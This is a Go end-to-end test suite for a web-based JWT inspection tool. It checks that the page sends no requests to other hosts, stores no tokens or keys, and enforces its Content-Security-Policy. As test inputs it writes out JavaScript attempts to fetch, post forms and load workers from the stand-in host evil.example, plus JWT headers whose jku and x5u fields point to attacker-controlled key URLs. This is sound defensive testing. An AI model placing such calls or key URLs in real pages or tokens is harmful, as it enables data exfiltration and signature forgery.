package e2e_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"jwtlab/app/site"
)

// TestNothingLeaves uses every feature and looks at every request that the browser made: each is a GET of one of the
// site's own files, and none has anything in it of a token or a key.
func TestNothingLeaves(t *testing.T) {
	t.Parallel()
	h := serve(t)
	p := open(t, h, "")
	p.paper()
	p.kept()
	p.everything()
	p.reload()
	p.kept()

	list, err := marked(t, "").For(site.Host{Base: "/", Server: true})
	if err != nil {
		t.Fatal(err)
	}
	var own []string
	for _, f := range list {
		own = append(own, "GET /"+strings.TrimSuffix(f.Path, "index.html"))
	}
	for _, asked := range h.requests() {
		if !slices.Contains(own, asked) {
			t.Errorf("the server was asked for %s, which is no file of the site", asked)
		}
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, asked := range p.asked {
		method, address, _ := strings.Cut(asked, " ")
		u, err := url.Parse(address)
		if err != nil || method != "GET" || u.Scheme != "data" && !strings.HasPrefix(address, h.URL+"/") {
			t.Errorf("the page asked for %.200s", asked)
		}
		if u != nil && u.Scheme == "data" && !strings.HasPrefix(address, "data:image/") {
			t.Errorf("the page made %.200s", asked)
		}
	}
	if got := strays.requests(); len(got) > 0 {
		t.Errorf("the browser asked others: %q", got)
	}
}

// everything uses each feature once.
func (p *page) everything() {
	p.Helper()
	a1 := example(p.T, "rfc7515-a1")
	p.box("token").fill(a1.Token)
	p.box("key").fill(a1.Key)
	p.answers("yes", "yes", "no")
	p.find("slider", p.say("ui.now")).set("1300819000")
	p.answers("yes", "yes", "yes")
	p.box("payload").fill(`{"jku":"https://evil.example/keys","iss":"https://issuer.example"}`)
	p.answers("yes", "yes", "yes")
	p.box("header").fill(`{"alg":"HS256","jku":"https://evil.example/keys","x5u":"https://evil.example/chain"}`)
	p.answers("yes", "yes", "yes")
	for _, what := range []string{"token", "authorization", "curl"} {
		p.menu("token", "ui.copy")
		p.findIn("copy-menu", "button", p.say("ui.copy."+what)).click()
		p.noticed(p.say("ui.notice.copied-" + what))
	}
	p.menu("token", "ui.share")
	p.find("button", p.say("ui.share.copy")).click()
	p.noticed(p.say("ui.notice.copied-link"))
	for _, alg := range []string{"ES256", "RS256"} {
		p.generate(alg)
		p.noticed(p.say("ui.notice.generated", alg))
	}
	p.give("token", long(p.T, 1<<20))
	p.until("the long token", `document.getElementById("payload-text").value.includes("lorem")`)
	p.find("combobox", p.say("ui.examples")).choose("self-vouched")
	p.holds("token", example(p.T, "self-vouched").Token)
	p.find("combobox", p.say("ui.theme")).choose("dark")
	p.find("link", "한국어").click()
	p.until("Korean", `document.documentElement.lang === "ko"`)
	p.find("link", "English").click()
	p.until("English", `document.documentElement.lang === "en"`)
}

// TestNothingIsStored keeps nothing of a token or a key when the page is gone.
func TestNothingIsStored(t *testing.T) {
	t.Parallel()
	p := open(t, serve(t), "")
	p.kept()
	p.paper()
	p.everything()
	var stored []string
	p.eval(`(async () => {
		const all = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), JSON.stringify(history.state), location.href];
		for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) all.push(request.url);
		for (const { name } of await indexedDB.databases()) all.push("database " + name);
		return all;
	})()`, &stored)
	for _, s := range stored {
		for _, secret := range []string{"eyJ", "AyM1Sys", "lorem", "PRIVATE", "database "} {
			if strings.Contains(s, secret) {
				t.Errorf("stored: %.200s", s)
			}
		}
	}
}

// TestPolicy tries what the Content-Security-Policy is there to prevent.
func TestPolicy(t *testing.T) {
	t.Parallel()
	for name, h := range map[string]*host{"served": serve(t), "plain files": files(t, "/demo/")} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := open(t, h, "")
			p.allow("refused by policy", "Content Security Policy", "CSP", "Fetch API cannot load", "TrustedScript", "Trusted")
			for what, attempt := range map[string]string{
				"fetch of another origin":  `fetch("https://evil.example/").then(() => "done", () => "refused")`,
				"image of another origin":  `new Promise((d) => { const i = new Image(); i.onload = () => d("done"); i.onerror = () => d("refused"); i.src = "https://evil.example/x.png"; })`,
				"inline script":            `(() => { try { const s = document.createElement("script"); s.text = "globalThis.inlined = true"; document.head.append(s); } catch {} return globalThis.inlined ? "done" : "refused"; })()`,
				"inline style":             `(() => { const s = document.createElement("style"); s.textContent = "body { color: rgb(1, 2, 3) }"; document.head.append(s); return getComputedStyle(document.body).color === "rgb(1, 2, 3)" ? "done" : "refused"; })()`,
				"form to another origin":   `new Promise((d) => { addEventListener("securitypolicyviolation", () => d("refused"), { once: true }); const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit(); })`,
				"markup from a string":     `(() => { try { document.createElement("div").innerHTML = "<b>x</b>"; return "done"; } catch { return "refused"; } })()`,
				"worker of another origin": `(() => { try { new Worker("https://evil.example/w.js"); return "done"; } catch { return "refused"; } })()`,
			} {
				var got string
				p.eval(attempt, &got)
				if got != "refused" {
					t.Errorf("%s: %s", what, got)
				}
			}
		})
	}
}
